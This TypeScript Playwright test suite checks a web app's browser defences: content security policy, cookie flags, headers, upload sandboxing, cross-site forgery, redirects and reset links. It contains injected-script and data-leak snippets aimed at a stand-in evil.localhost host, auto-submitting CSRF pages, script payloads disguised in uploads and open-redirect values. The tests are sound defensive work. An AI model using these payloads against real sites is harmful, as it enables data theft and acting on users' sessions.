/** What a browser lets others do to us: injected code, other sites, uploaded pages, stolen links. Built app, real Chromium. */
import { createHash } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { join } from 'node:path'
import {
  type APIRequestContext,
  expect,
  type Page,
  request as apiRequest,
  test,
} from '@playwright/test'
import { formPath } from '../../db/form-words.ts'
import { demoPassword } from '../../db/platform/demo.ts'
import { at, light, onServer, signIn } from './support/person.ts'
import { violations, watchPolicy } from './support/policy.ts'
import { freePort } from '../support/port.ts'
import { ServerProcess } from './support/server.ts'

let server: ServerProcess
let base: string
let evil: Server
let evilPort: number
/** What the other sites serve: a page for each path. */
const evilPages = new Map<string, string>()
const heard: string[] = []

test.beforeAll(async () => {
  server = await ServerProcess.begin()
  base = at(server.port)
  evilPort = await freePort()
  evil = createServer((from, to) => {
    const path = from.url ?? '/'
    heard.push(path)
    const page = evilPages.get(path.split('?')[0] ?? '')
    to.writeHead(page ? 200 : 404, { 'content-type': 'text/html' }).end(page ?? 'nothing')
  })
  await new Promise<void>(resolve => evil.listen(evilPort, '127.0.0.1', resolve))
})
test.afterAll(async () => {
  evil.closeAllConnections()
  await new Promise(resolve => evil.close(resolve))
  await server.stop()
})

/** For calls from outside the browser, which alone knows names under localhost. */
const direct = () => `http://127.0.0.1:${server.port}`

const statusOf = (username = 'helene') =>
  onServer(
    server,
    sqlite =>
      (sqlite.prepare('select status from user where id = ?').get(username) as { status: string })
        .status,
  )

test('injected code does nothing, and nothing is sent to or fetched from anywhere else', async ({
  page,
  context,
}) => {
  await watchPolicy(context)
  await signIn(page, base, 'helene')
  const away = `http://evil.localhost:${evilPort}`
  const attempts: [directive: string, name: string, code: string][] = [
    [
      'script-src-elem',
      'inline script',
      `const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)`,
    ],
    [
      'script-src-elem',
      'foreign script',
      `const s = document.createElement('script'); s.src = '${away}/x.js'; document.body.append(s)`,
    ],
    [
      'script-src-elem',
      'data script',
      `const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran=1'; document.body.append(s)`,
    ],
    [
      'script-src-elem',
      'blob script',
      `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.ran=1'])); document.body.append(s)`,
    ],
    [
      'script-src-attr',
      'inline handler',
      `const d = document.createElement('div'); d.innerHTML = '<img src="/nowhere.png" onerror="window.ran=1">'; document.body.append(d)`,
    ],
    [
      'script-src-elem',
      'javascript: link',
      `const a = document.createElement('a'); a.href = 'javascript:window.ran=1'; document.body.append(a); a.click()`,
    ],
    ['img-src', 'foreign picture', `new Image().src = '${away}/leak.png?' + document.title`],
    [
      'frame-src',
      'foreign frame',
      `const f = document.createElement('iframe'); f.src = '${away}/frame'; document.body.append(f)`,
    ],
    ['connect-src', 'fetch', `fetch('${away}/leak').catch(() => {})`],
    ['connect-src', 'beacon', `navigator.sendBeacon('${away}/leak', 'x')`],
    ['connect-src', 'event source', `new EventSource('${away}/leak')`],
    [
      'connect-src',
      'web socket',
      `try { new WebSocket('ws://evil.localhost:${evilPort}/') } catch {}`,
    ],
    [
      'style-src-elem',
      'inline style',
      `const s = document.createElement('style'); s.textContent = 'body{background:url(${away}/leak)}'; document.head.append(s)`,
    ],
    [
      'style-src-elem',
      'foreign style',
      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${away}/x.css'; document.head.append(l)`,
    ],
    [
      'style-src-attr',
      'style attribute',
      `const d = document.createElement('div'); d.innerHTML = '<p style="color:red">x</p>'; document.body.append(d)`,
    ],
    [
      'object-src',
      'plug-in',
      `const o = document.createElement('object'); o.data = '${away}/x.swf'; document.body.append(o)`,
    ],
    [
      'worker-src',
      'foreign worker',
      `try { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) } catch {}`,
    ],
    [
      'form-action',
      'foreign form',
      `const f = document.createElement('form'); f.action = '${away}/leak'; f.method = 'post'; document.body.append(f); f.submit()`,
    ],
    [
      'base-uri',
      'base',
      `const b = document.createElement('base'); b.href = '${away}/'; document.head.append(b)`,
    ],
    ['script-src', 'eval', `setTimeout(() => (0, eval)('window.ran = 1'))`],
    ['script-src', 'new Function', `setTimeout(() => new Function('window.ran = 1')())`],
    ['script-src', 'timer with text', `setTimeout(() => setTimeout('window.ran = 1'))`],
  ]
  heard.length = 0
  for (const [directive, name, code] of attempts) {
    await violations(page)
    // The debugger's own evaluation may do what it likes; what it leaves in the page may not.
    await page.evaluate(code).catch(() => {})
    await expect
      .poll(async () => (await violations(page)).map(each => each.directive), { message: name })
      .toContain(directive)
  }
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  expect(page.url()).toContain(base)
  expect(heard).toEqual([])
})

test('the key is in no place a script can read', async ({ page, context }) => {
  await signIn(page, base, 'helene')
  const cookies = await context.cookies()
  const key = cookies.find(({ name }) => name === 'User.Key')
  expect(key).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/', secure: false })
  expect(cookies.map(({ name }) => name).toSorted()).toEqual(['User.Key', 'User.Language'])
  const secret = decodeURIComponent(key?.value ?? '').split('.')[1] ?? 'none'
  expect(secret).toHaveLength(43)
  const readable = await page.evaluate(async () => {
    const all: unknown[] = [
      document.cookie,
      { ...localStorage },
      { ...sessionStorage },
      history.state,
    ]
    for (const { name } of await indexedDB.databases()) {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const open = indexedDB.open(name ?? '')
        open.onsuccess = () => resolve(open.result)
        open.onerror = () => reject(open.error)
      })
      for (const store of db.objectStoreNames)
        all.push(
          await new Promise(resolve => {
            const rows = db.transaction(store).objectStore(store).getAll()
            rows.onsuccess = () => resolve(rows.result)
          }),
        )
      db.close()
    }
    for (const name of await caches.keys())
      for (const request of await (await caches.open(name)).keys()) all.push(request.url)
    return JSON.stringify(all, (_, value: unknown) =>
      typeof value === 'bigint' ? String(value) : value,
    )
  })
  expect(readable.length).toBeGreaterThan(10_000)
  expect(readable).not.toContain(secret)
  expect(readable).not.toContain(demoPassword)
})

test('over https the cookies are Secure and the browser is told to stay there', async () => {
  process.env['TRUST_PROXY'] = '1'
  const behind = await ServerProcess.begin()
  delete process.env['TRUST_PROXY']
  const https = { 'x-forwarded-proto': 'https' }
  const answer = await fetch(`http://127.0.0.1:${behind.port}/api/session/login`, {
    method: 'POST',
    headers: { ...https, 'content-type': 'application/json' },
    body: JSON.stringify({ username: 'helene', password: demoPassword, remember: true }),
  })
  const cookies = answer.headers.getSetCookie()
  expect(cookies).toHaveLength(2)
  for (const cookie of cookies) {
    expect(cookie).toMatch(/; Path=\/(;|$)/)
    expect(cookie).toMatch(/; Secure(;|$)/)
    expect(cookie).toMatch(/; SameSite=Lax(;|$)/)
    expect(cookie).not.toMatch(/Domain=/i)
  }
  expect(cookies.find(each => each.startsWith('User.Key='))).toMatch(/; HttpOnly(;|$)/)
  expect(answer.headers.get('strict-transport-security')).toBe(
    'max-age=31536000; includeSubDomains',
  )
  await behind.stop()
})

const sha = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')
const png = (text: string) =>
  Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.from(text)])
const upload = (page: Page, bytes: Buffer, type: string) =>
  page.evaluate(
    async ([name, data, mime]) => {
      const body = Uint8Array.from(data)
      const answer = await fetch(`/api/files/${name}`, {
        method: 'PUT',
        body,
        headers: {
          'content-type': mime,
          'content-range': `bytes 0-${body.length - 1}/${body.length}`,
          'X-Showfloor': '1',
        },
      })
      return answer.status
    },
    [sha(bytes), [...bytes], type] as const,
  )

test('every kind of answer carries its guards', async ({ page }) => {
  await signIn(page, base, 'helene')
  const picture = png('a picture')
  expect(await upload(page, picture, 'image/png')).toBe(200)
  const html = await page.evaluate(async () => (await fetch('/')).text())
  const asset = /src="(\/assets\/[^"]+)"/.exec(html)?.[1] ?? ''
  const paths = [
    '/',
    formPath('crm.Tasks', 'fr-ca'),
    asset,
    '/sw.js',
    '/theme.js',
    '/manifest.webmanifest',
    '/brand.css',
    '/favicon.ico',
    '/brands/boreal/icon.svg',
    '/robots.txt',
    '/api/health',
    '/api/brand',
    '/api/session/key?Type=Client',
    '/api/session/devices',
    '/api/sync/pull?gid=headers',
    `/api/files/${sha(picture)}`,
    '/api/nothing',
    '/nothing.js',
    `${asset}.map`,
  ]
  const answers = await page.evaluate(
    asked =>
      Promise.all(
        asked.map(async path => {
          const answer = await fetch(path, { headers: { 'X-Showfloor': '1' }, cache: 'reload' })
          return { path, status: answer.status, headers: Object.fromEntries(answer.headers) }
        }),
      ),
    paths,
  )
  expect(answers.find(({ path }) => path === `${asset}.map`)?.status).toBe(404)
  for (const { path, headers } of answers) {
    const isFile = path.startsWith('/api/files/')
    expect.soft(headers['x-content-type-options'], path).toBe('nosniff')
    expect.soft(headers['x-frame-options'], path).toBe('DENY')
    expect.soft(headers['referrer-policy'], path).toBe('same-origin')
    expect.soft(headers['cross-origin-resource-policy'], path).toBe('same-origin')
    expect.soft(headers['cross-origin-opener-policy'], path).toBe('same-origin')
    expect.soft(headers['permissions-policy'], path).toContain('geolocation=()')
    expect.soft(headers['content-type'], path).toBeTruthy()
    expect.soft(headers['access-control-allow-origin'], path).toBeUndefined()
    expect.soft(headers['server'], path).toBeUndefined()
    expect.soft(headers['x-powered-by'], path).toBeUndefined()
    const policy = headers['content-security-policy'] ?? ''
    if (isFile)
      expect.soft(policy, path).toBe("default-src 'none'; frame-ancestors 'none'; sandbox")
    else {
      expect.soft(policy, path).toContain("default-src 'self'")
      expect.soft(policy, path).toContain("frame-ancestors 'none'")
      expect.soft(policy, path).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|https?:/)
    }
    if (path.startsWith('/api/session/') || path.startsWith('/api/sync/'))
      expect.soft(headers['cache-control'], path).toBe('private, no-store')
  }
})

test('a page or a drawing somebody uploads never runs as ours', async ({ page, context }) => {
  await signIn(page, base, 'helene')
  const script = '<script>document.title = "ran"; fetch("/api/session/devices")</script>'
  expect(
    await upload(
      page,
      Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
      'image/svg+xml',
    ),
  ).toBe(415)
  expect(await upload(page, Buffer.from(`<!doctype html>${script}`), 'text/html')).toBe(415)
  expect(await upload(page, Buffer.from(`<!doctype html>${script}`), 'application/json')).toBe(422)
  const disguised: [Buffer, string][] = [
    [png(script), 'image/png'],
    [Buffer.from(JSON.stringify({ script })), 'application/json'],
    [Buffer.from(`%PDF-1.7 ${script}`), 'application/pdf'],
  ]
  for (const [bytes, type] of disguised) {
    expect(await upload(page, bytes, type)).toBe(200)
    const asked: string[] = []
    const note = (request: { url(): string }) => void asked.push(request.url())
    context.on('request', note)
    const [opened] = await Promise.all([
      context.waitForEvent('page'),
      page.evaluate(path => void window.open(path), `/api/files/${sha(bytes)}`),
    ])
    await opened.waitForLoadState().catch(() => {})
    await page.evaluate(
      path => {
        const frame = document.createElement('iframe')
        frame.src = path
        document.body.append(frame)
        return new Promise(resolve => (frame.onload = resolve))
      },
      `/api/files/${sha(bytes)}`,
    )
    expect(await opened.title()).not.toBe('ran')
    expect(asked.filter(url => url.includes('/api/session/devices'))).toEqual([])
    context.off('request', note)
    await opened.close()
  }
})

test('no other site can act with her cookie, frame us, or read us', async ({ page, context }) => {
  await signIn(page, base, 'helene')
  const before = statusOf()
  const wanted = before === 'available' ? '865' : '864'
  const targets = [
    `${base}/api/users/status?StatusId=${wanted}`,
    `${base}/api/session/logout`,
    `${base}/api/users/menu/order/form?ItemId=106&IndexOld=0&IndexNew=1`,
  ]
  const body = targets
    .map(
      url => `
        fetch('${url}', { credentials: 'include', mode: 'no-cors' }).catch(() => {})
        fetch('${url}', { credentials: 'include', headers: { 'X-Showfloor': '1' } }).then(() => document.title = 'read', () => {})
        fetch('${url}', { credentials: 'include', method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{}' }).catch(() => {})
        new Image().src = '${url}'
        navigator.sendBeacon('${url}', '{}')`,
    )
    .join('\n')
  const reads = `
    fetch('${base}/api/session/devices', { credentials: 'include' }).then(a => a.text()).then(t => document.title = 'read', () => {})
    const s = document.createElement('script'); s.src = '${base}/api/session/devices'; s.onload = () => document.title = 'read'; document.head.append(s)`
  evilPages.set(
    '/act',
    `<!doctype html><title>evil</title><iframe name="hidden"></iframe>
    ${targets.map(url => `<form method="post" target="hidden" enctype="text/plain" action="${url}"><input name='{"a":"' value='"}'></form>`).join('')}
    <script>${body}\n${reads}\nfor (const form of document.forms) form.submit()</script>`,
  )
  evilPages.set('/frame', `<!doctype html><title>evil</title><iframe src="${base}/"></iframe>`)
  evilPages.set(
    '/click',
    `<!doctype html>${targets.map(url => `<a href="${url}">win</a>`).join('')}`,
  )

  // Another site, and our own host on another port: to the browser the second one is the same site, with the same cookies.
  for (const host of ['evil.localhost', 'boreal.localhost']) {
    const from = `http://${host}:${evilPort}`
    const other = await context.newPage()
    await other.goto(`${from}/act`)
    await other.waitForLoadState('networkidle').catch(() => {})
    expect(await other.title(), from).toBe('evil')
    await other.goto(`${from}/frame`)
    const inner = other.frames().find(frame => frame !== other.mainFrame())
    expect(inner?.url() ?? '', from).not.toContain(`:${server.port}`)
    for (let n = 0; n < targets.length; n += 1) {
      await other.goto(`${from}/click`)
      const [answer] = await Promise.all([
        other.waitForResponse(response => response.url() === targets[n]),
        other.locator('a').nth(n).click(),
      ])
      expect(answer.status(), `${from} ${targets[n]}`).toBe(403)
    }
    await other.close()
  }
  expect(statusOf()).toBe(before)
  const still = await page.evaluate(async () => (await fetch('/api/session/devices')).status)
  expect(still).toBe(200)
})

test('after the sign-in nobody is led away from here', async ({ browser }) => {
  const elsewhere = [
    `//evil.localhost:${evilPort}/`,
    `http://evil.localhost:${evilPort}/`,
    `/\\evil.localhost:${evilPort}/`,
    `javascript:document.title='ran'`,
    '/api/session/logout',
  ]
  for (const path of elsewhere) {
    const context = await browser.newContext()
    const page = await context.newPage()
    await page.goto(`${base}${formPath('public.Home', 'en-ca')}?path=${encodeURIComponent(path)}`)
    await page.locator('input[name=username]').fill('helene')
    await page.locator('input[name=password]').fill(demoPassword)
    await page.getByRole('button', { name: 'Sign in', exact: true }).click()
    await expect(light(page)).toBeVisible()
    expect(new URL(page.url()).origin, path).toBe(base)
    expect(await page.title(), path).not.toBe('ran')
    await context.close()
  }
})

test('signing out ends the key, takes the cookies and empties the cache of the browser', async ({
  browser,
}) => {
  // Without the worker, whose own photos the app removes: what is left is the browser's cache.
  const context = await browser.newContext({ serviceWorkers: 'block' })
  const page = await context.newPage()
  await signIn(page, base, 'helene')
  const key = (await context.cookies()).find(({ name }) => name === 'User.Key')?.value ?? ''
  const picture = png('a private picture')
  expect(await upload(page, picture, 'image/png')).toBe(200)
  const path = `/api/files/${sha(picture)}`
  const kept = () =>
    page.evaluate(
      to =>
        fetch(to, { cache: 'only-if-cached', mode: 'same-origin' }).then(
          answer => answer.status,
          () => 0,
        ),
      path,
    )
  await page.evaluate(async to => void (await (await fetch(to)).arrayBuffer()), path)
  expect(await kept()).toBe(200)
  await page.evaluate(
    async () => void (await fetch('/api/session/logout', { headers: { 'X-Showfloor': '1' } })),
  )
  expect(await context.cookies()).toEqual([])
  await expect.poll(kept).not.toBe(200)
  const used = await fetch(`${direct()}/api/session/devices`, {
    headers: { Key: decodeURIComponent(key) },
  })
  expect(used.status).toBe(401)
  await context.close()
})

const askReset = async (api: APIRequestContext, email: string) =>
  (await api.post('/api/session/reset', { data: { email } })).status()

test('a mailed link works once, in a page whose address it leaves', async ({ browser }) => {
  const email = onServer(
    server,
    sqlite =>
      (sqlite.prepare(`select email from user where id = 'helene'`).get() as { email: string })
        .email,
  )
  const api = await apiRequest.newContext({ baseURL: direct() })
  expect(await askReset(api, email)).toBe(200)
  expect(await askReset(api, 'nobody@nowhere.example')).toBe(200)
  const folder = join(server.dataDir, 'mail')
  const linkIn = () => {
    try {
      const [letter = ''] = readdirSync(folder)
      const text = readFileSync(join(folder, letter), 'utf8')
        .replaceAll('=\n', '')
        .replaceAll('=3D', '=')
      return /http:\/\/\S+#reset=[\w-]+/.exec(text)?.[0] ?? ''
    } catch {
      return ''
    }
  }
  await expect.poll(linkIn).toMatch(/^http:\/\/127\.0\.0\.1:/)
  expect(readdirSync(folder)).toHaveLength(1)
  const link = linkIn()
  const context = await browser.newContext()
  const page = await context.newPage()
  const asked: string[] = []
  page.on('request', request => asked.push(`${request.url()} ${JSON.stringify(request.headers())}`))
  await page.goto(link)
  await page.locator('input[name=new-password]').fill('three green cars on the lot')
  await page.locator('input[name=new-password]').press('Enter')
  // In whatever language the letter was: the field is gone and the page says so.
  await expect(page.locator('main').getByRole('status')).toBeVisible()
  await expect(page.locator('input[name=new-password]')).toHaveCount(0)
  const token = link.split('#reset=')[1] ?? ''
  // Only in the body of the one call it is for: no address, no referrer.
  expect(asked.filter(each => each.includes(token))).toEqual([])
  const again = await api.post('/api/session/reset/confirm', {
    data: { token, password: 'four green cars on the lot' },
  })
  expect([again.status(), ((await again.json()) as { code: string }).code]).toEqual([
    400,
    'reset-invalid',
  ])
  const old = await api.post('/api/session/login', {
    data: { username: 'helene', password: demoPassword },
  })
  expect(old.status()).toBe(401)
  await context.close()
  await api.dispose()
})
